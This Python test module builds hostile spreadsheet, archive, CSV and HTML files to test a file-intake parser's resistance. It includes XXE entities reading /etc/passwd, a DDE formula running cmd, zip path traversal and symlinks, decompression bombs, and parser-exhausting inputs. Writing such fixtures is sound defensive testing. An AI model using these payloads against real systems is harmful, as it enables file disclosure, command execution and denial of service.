"""Files made to hurt whoever opens them (trust S-13), beside those of tests/unit/intake/test_bombs.py."""

import bz2
import gzip
import io
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

import xlwt

from tests.unit.intake.test_bombs import HEAD, MAIN, OFFICE, PACKAGE, SHEET, Part, workbook

Bomb = Callable[[Path, str], Path]
BOMBS: dict[str, Bomb] = {}
ROW = '<row r="1"><c r="A1" t="inlineStr"><is><t>姓名</t></is></c></row>'
STYLES = f'{HEAD}<styleSheet {MAIN}><cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs></styleSheet>'
ODS = "application/vnd.oasis.opendocument.spreadsheet"
ODS_NAMES = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:'
    'xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
)


def bomb(name: str) -> Callable[[Bomb], Bomb]:
    """Keep a maker of a file: it gets a folder and the address of a listener that must never be called."""

    def keep(make: Bomb) -> Bomb:
        BOMBS[name] = make
        return make

    return keep


def plain(name: str, file: str, data: bytes | Callable[[str], bytes]) -> None:
    """Keep a file of given bytes."""

    def make(folder: Path, caller: str) -> Path:
        (folder / file).write_bytes(data if isinstance(data, bytes) else data(caller))
        return folder / file

    BOMBS[name] = make


def sheet(name: str, xml: str | Callable[[str], str], **parts: Part | Callable[[str], bytes]) -> None:
    """Keep a workbook around a sheet's XML."""

    def make(folder: Path, caller: str) -> Path:
        more = {key.replace("__", "/"): part(caller) if callable(part) else part for key, part in parts.items()}
        return workbook(folder / "a.xlsx", (xml if isinstance(xml, str) else xml(caller)).encode(), **more)

    BOMBS[name] = make


def ods(name: str, table: str) -> None:
    """Keep an OpenDocument sheet."""

    def make(folder: Path, caller: str) -> Path:
        content = (
            f"{HEAD}<office:document-content {ODS_NAMES}><office:body><office:spreadsheet>"
            f'<table:table table:name="S">{table}</table:table></office:spreadsheet></office:body></office:document-content>'
        )
        with zipfile.ZipFile(folder / "a.ods", "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("mimetype", ODS)
            archive.writestr("content.xml", content)
            archive.writestr(
                "META-INF/manifest.xml",
                f'{HEAD}<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>',
            )
        return folder / "a.ods"

    BOMBS[name] = make


ODS_CELL = '<table:table-cell office:value-type="string"><text:p>x</text:p></table:table-cell>'
ods(
    "ods: a row repeated a million times",
    f'<table:table-row table:number-rows-repeated="1048576">{ODS_CELL}</table:table-row>',
)
ods(
    "ods: a cell repeated in every direction",
    '<table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384" '
    'office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row>',
)
ods(
    "ods: a repeat that overflows",
    f'<table:table-row table:number-rows-repeated="99999999999999999999">{ODS_CELL}</table:table-row>',
)
ods(
    "ods: four milliards of blanks",
    f"<table:table-row>{ODS_CELL.replace('x', '<text:s text:c=&quot;4000000000&quot;/>'.replace('&quot;', chr(34)))}</table:table-row>",
)

sheet("xlsx: a count of four milliards of strings", SHEET % ROW, **{
    "xl/sharedStrings.xml": f'{HEAD}<sst {MAIN} count="4294967295" uniqueCount="4294967295"/>'.encode(),
})  # fmt: skip
sheet(
    "xlsx: an extent without cells", f'{HEAD}<worksheet {MAIN}><dimension ref="A1:XFD1048576"/><sheetData/></worksheet>'
)
sheet(
    "xlsx: an extent that is not true",
    f'{HEAD}<worksheet {MAIN}><dimension ref="A1:XFD1048576"/><sheetData>{ROW}</sheetData></worksheet>',
)
sheet("xlsx: a cell beyond all columns", SHEET % '<row r="1"><c r="ZZZZZZ1"><v>1</v></c></row>')
sheet("xlsx: a row beyond all rows", SHEET % '<row r="4294967295"><c r="A4294967295"><v>1</v></c></row>')
sheet(
    "xlsx: row nought and below",
    SHEET % '<row r="0"><c r="A0"><v>1</v></c></row><row r="-1"><c r="A-1"><v>1</v></c></row>',
)
sheet("xlsx: cells without places", SHEET % ("<row><c><v>1</v></c></row>" * 30_000))
sheet("xlsx: far cells behind an attribute", SHEET % (
    '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c s="0" t="str" r="XFD1048576"><f>1</f><v>1</v></c></row>'
))  # fmt: skip
sheet("xlsx: far cells in single quotes", SHEET % (
    "<row r='1'><c r='A1'><v>1</v></c></row><row r='1048576'><c r='XFD1048576'><v>1</v></c></row>"
))  # fmt: skip
sheet("xlsx: far cells with a name space", (
    f'{HEAD}<x:worksheet xmlns:x="{MAIN[7:-1]}"><x:sheetData><x:row r="1"><x:c r="A1"><x:v>1</x:v></x:c></x:row>'
    '<x:row r="1048576"><x:c r="XFD1048576"><x:v>1</x:v></x:c></x:row></x:sheetData></x:worksheet>'
))  # fmt: skip
sheet(
    "xlsx: far cells in other ways",
    SHEET
    % '<row r="1"><c  r="A1" ><v >1</v></c></row><row r="1048576"><c\nr="XFD1048576"\n><!-- x --><v>1</v></c></row>',
)
sheet("xlsx: a string that is not there", SHEET % '<row r="1"><c r="A1" t="s"><v>4294967295</v></c></row>')
sheet("xlsx: dates outside time", SHEET % (
    '<row r="1"><c r="A1" s="1"><v>1e308</v></c><c r="B1" s="1"><v>-1e12</v></c><c r="C1" s="1"><v>NaN</v></c>'
    '<c r="D1" t="d"><v>99999-99-99</v></c><c r="E1" s="1"><v>2958466</v></c></row>'
), **{"xl/styles.xml": STYLES.encode()})  # fmt: skip
sheet("xlsx: nested a quarter of a million deep", SHEET % ("<row>" * 250_000))
sheet(
    "xlsx: a hundred thousand attributes",
    SHEET % ("<row r='1' " + " ".join(f"a{n}='1'" for n in range(100_000)) + "/>"),
)
sheet(
    "xlsx: a comment of fifty megabytes", f"{HEAD}<worksheet {MAIN}><!-- {'- ' * 25_000_000}--><sheetData/></worksheet>"
)
sheet("xlsx: a hundred thousand merged areas", (
    f"{HEAD}<worksheet {MAIN}><sheetData>{ROW}</sheetData><mergeCells>"
    + "".join(f'<mergeCell ref="A{n}:XFD{n + 1}"/>' for n in range(1, 100_001))
    + "</mergeCells></worksheet>"
))  # fmt: skip
sheet("xlsx: one area over everything", (
    f'{HEAD}<worksheet {MAIN}><sheetData>{ROW}</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells></worksheet>'
))  # fmt: skip
sheet("xlsx: formulas that call", lambda caller: SHEET % (
    f'<row r="1"><c r="A1"><f>WEBSERVICE("{caller}a")</f><v>姓名</v></c><c r="B1"><f>[1]S!A1</f><v>1</v></c>'
    f"<c r=\"C1\"><f>cmd|'/c calc'!A0</f><v>1</v></c><c r=\"D1\"><f>IMAGE(\"{caller}b\")</f><v>1</v></c></row>"
))  # fmt: skip
sheet("xlsx: a sheet that lies elsewhere", SHEET % ROW, **{
    "xl/_rels/workbook.xml.rels": lambda caller: (
        f'{HEAD}<Relationships xmlns="{PACKAGE}"><Relationship Id="r1" Type="{OFFICE}/worksheet" Target="{caller}sheet1.xml" '
        f'TargetMode="External"/><Relationship Id="r3" Type="{OFFICE}/externalLink" Target="{caller}book.xlsx" '
        'TargetMode="External"/></Relationships>'
    ).encode(),
})  # fmt: skip
sheet("xlsx: a sheet above the archive", SHEET % ROW, **{
    "xl/_rels/workbook.xml.rels": (
        f'{HEAD}<Relationships xmlns="{PACKAGE}"><Relationship Id="r1" Type="{OFFICE}/worksheet" '
        'Target="../../../../../../etc/passwd"/></Relationships>'
    ).encode(),
})  # fmt: skip
sheet("xlsx: an entity fetched from outside", lambda caller: (
    f'{HEAD}<!DOCTYPE x [<!ENTITY e SYSTEM "{caller}x"><!ENTITY f SYSTEM "file:///etc/passwd">]>'
    f'<worksheet {MAIN}><sheetData><row r="1"><c r="A1" t="str"><v>&e;&f;</v></c></row></sheetData></worksheet>'
))  # fmt: skip
sheet("xlsx: a part included from outside", lambda caller: (
    f'{HEAD}<?xml-stylesheet href="{caller}s.xsl" type="text/xsl"?><worksheet {MAIN} xmlns:xi="http://www.w3.org/2001/XInclude">'
    f'<xi:include href="{caller}i.xml"/><sheetData>{ROW}</sheetData></worksheet>'
))  # fmt: skip
sheet("xlsx: two thousand sheets", SHEET % ROW, **{
    "xl/workbook.xml": (
        f'{HEAD}<workbook {MAIN} xmlns:r="{OFFICE}"><sheets>'
        + "".join(f'<sheet name="S{n}" sheetId="{n}" r:id="r1"/>' for n in range(1, 2_001))
        + "</sheets></workbook>"
    ).encode(),
})  # fmt: skip
for _encoding in ("utf-32", "utf-7", "cp037"):
    sheet(f"xlsx: a declaration in {_encoding}", SHEET % ROW, **{
        "xl/sharedStrings.xml": f'<?xml version="1.0" encoding="{_encoding}"?><!DOCTYPE x [<!ENTITY a "b">]><sst {MAIN}/>'.encode(
            _encoding
        ),
    })  # fmt: skip


def zipped(change: Callable[[bytes], bytes]) -> Bomb:
    """Return a maker of a workbook whose bytes were changed."""

    def make(folder: Path, caller: str) -> Path:
        path = workbook(folder / "a.xlsx", (SHEET % ROW).encode() + b" " * 100_000)
        path.write_bytes(change(path.read_bytes()))
        return path

    return make


def overlapping(data: bytes) -> bytes:
    """Let one compressed part stand in the directory a thousand times."""
    end = data.rindex(b"PK\5\6")
    count, size, start = struct.unpack("<HII", data[end + 10 : end + 20])
    directory = data[start : start + size]
    last = directory[directory.rindex(b"PK\1\2") :]
    many = directory + last * 1_000
    closing = data[end : end + 8] + struct.pack("<HHII", count + 1_000, count + 1_000, len(many), start) + b"\0\0"
    return data[:start] + many + closing


def lying(data: bytes) -> bytes:
    """Declare every part one byte long."""
    out, at = bytearray(data), 0
    while (at := data.find(b"PK\1\2", at)) >= 0:
        out[at + 24 : at + 28] = struct.pack("<I", 1)
        at += 4
    return bytes(out)


def locked(data: bytes) -> bytes:
    """Say that every part needs a password."""
    out, at = bytearray(data), 0
    while (at := data.find(b"PK\1\2", at)) >= 0:
        out[at + 8] |= 1
        at += 4
    return bytes(out)


BOMBS["zip: parts that overlap"] = zipped(overlapping)
BOMBS["zip: parts that lie about their size"] = zipped(lying)
BOMBS["zip: parts that need a password"] = zipped(locked)
BOMBS["zip: cut in the middle"] = zipped(lambda data: data[: len(data) // 2])
BOMBS["zip: its directory only"] = zipped(lambda data: b"PK\3\4" + data[data.index(b"PK\1\2") :])
BOMBS["zip: an offset behind its end"] = zipped(lambda data: data[:-6] + struct.pack("<I", 0xFFFFFFF0) + data[-2:])


@bomb("zip: two hundred megabytes by another method")
def other_method(folder: Path, caller: str) -> Path:
    """Bzip2 unpacks in steps of its own size."""
    workbook(folder / "a.xlsx", (SHEET % ROW).encode())
    with zipfile.ZipFile(folder / "a.xlsx", "a", zipfile.ZIP_BZIP2) as archive, archive.open("xl/b.xml", "w") as part:
        for _ in range(200):
            part.write(b" " * 1_000_000)
    return folder / "a.xlsx"


@bomb("zip: links and places outside")
def outside(folder: Path, caller: str) -> Path:
    """Names that climb and an entry that is a symbolic link."""
    workbook(folder / "a.xlsx", (SHEET % ROW).encode())
    with zipfile.ZipFile(folder / "a.xlsx", "a") as archive:
        archive.writestr("../../climbed", "x")
        link = zipfile.ZipInfo("xl/worksheets/sheet2.xml")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return folder / "a.xlsx"


@bomb("xls: cut in the middle")
def cut_xls(folder: Path, caller: str) -> Path:
    """An old workbook that lost its second half."""
    return _old(folder, lambda data: data[: len(data) // 2])


@bomb("xls: its chain of sectors bites its tail")
def circular_xls(folder: Path, caller: str) -> Path:
    """Every entry of the sector table points at sector 0."""
    return _old(folder, lambda data: data[:512] + b"\0" * 4 * 64 + data[768:])


@bomb("xls: noise behind a true head")
def noise_xls(folder: Path, caller: str) -> Path:
    """The head of an old workbook and the word Workbook, then nothing that fits."""
    return _old(folder, lambda data: data[:512] + "Workbook".encode("utf-16-le") + bytes(range(256)) * 400)


def _old(folder: Path, change: Callable[[bytes], bytes]) -> Path:
    book = xlwt.Workbook()
    page = book.add_sheet("S")
    for row in range(200):
        page.write(row, 0, f"周一诺{row}")
    out = io.BytesIO()
    book.save(out)
    (folder / "a.xls").write_bytes(change(out.getvalue()))
    return folder / "a.xls"


URN = "urn:schemas-microsoft-com:office:spreadsheet"
XML_SHEET = f'<?xml version="1.0"?>%s<Workbook xmlns="{URN}" xmlns:ss="{URN}">%s</Workbook>'
plain(
    "xml: a row far away",
    "a.xls",
    (
        XML_SHEET
        % (
            "",
            '<Worksheet><Table><Row ss:Index="99999999"><Cell ss:Index="99999999"><Data>1</Data></Cell></Row></Table></Worksheet>',
        )
    ).encode(),
)
plain("xml: nested deep", "a.xls", (XML_SHEET % ("", "<Worksheet>" * 100_000)).encode())
plain("xml: fetched from outside", "a.xls", lambda c: (XML_SHEET % (f'<!DOCTYPE x SYSTEM "{c}x.dtd">', "")).encode())
plain("html: pictures and frames from outside", "a.xls", lambda c: (
    f'<html><base href="{c}"><meta http-equiv=refresh content="0;url={c}r"><img src="{c}i"><iframe src="{c}f"></iframe>'
    f'<script src="{c}s"></script><table background="{c}t"><tr><td>姓名<td>性别</table>'
).encode())  # fmt: skip
plain("html: a comment without an end", "a.xls", b"<html><table><tr><td>x<!--" + b"-" * 4_500_000)
plain("html: a million entities", "a.xls", b"<html><table><tr><td>" + b"&#x10FFFF;" * 400_000)
plain("html: an attribute without an end", "a.xls", b"<html><table><tr><td a='" + b"x " * 2_000_000)
plain("html: tables in tables", "a.xls", b"<html>" + b"<table><tr><td>" * 50_000)
plain("html: a head of brackets", "a.xls", b"<html><table>" + b"<" * 1_000_000)
plain("csv: nothing but quotation marks", "a.csv", b'"' * 4_900_000)
plain("csv: nothing but separators", "a.csv", b"," * 4_900_000)
plain("csv: nothing but lines", "a.csv", b"x\n" * 2_400_000)
plain("csv: spaces behind a hint", "a.csv", b"sep=;" + b" " * 4_000_000 + b"x")
plain("csv: a formula text without an end", "a.csv", b'="' * 2_000_000)
plain("csv: alternating quotation marks", "a.csv", b'a"b,' * 1_200_000)
plain("csv: halves of characters", "a.csv", b"\xff\xfe" + b"\x00\xd8" * 2_000_000)
plain("csv: three million marks on one letter", "a.csv", "姓名,性别\na".encode() + "\u0301".encode() * 2_000_000)
plain("csv: escapes of a terminal", "a.csv", "姓名,性别\n\x1b]0;x\x07\x1b[2J,男\n".encode())
plain("csv: a heading nine thousand times", "a.csv", "姓名,性别,出生日期,证件号码\n".encode() * 19_000)
plain("gzip: a gigabyte", "a.csv.gz", gzip.compress(b"\0" * 100_000_000))
plain("bzip2: called xlsx", "a.xlsx", bz2.compress(b"\0" * 50_000_000))
plain("pdf: called xlsx", "a.xlsx", b"%PDF-1.7\n" + b"x" * 1_000_000)
plain(
    "png: a picture of a milliard of points",
    "a.xlsx",
    b"\x89PNG\r\n\x1a\n" + struct.pack(">I4sIIBBBBB", 13, b"IHDR", 65535, 65535, 8, 6, 0, 0, 0),
)
plain("ole: no workbook in it", "a.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100_000)
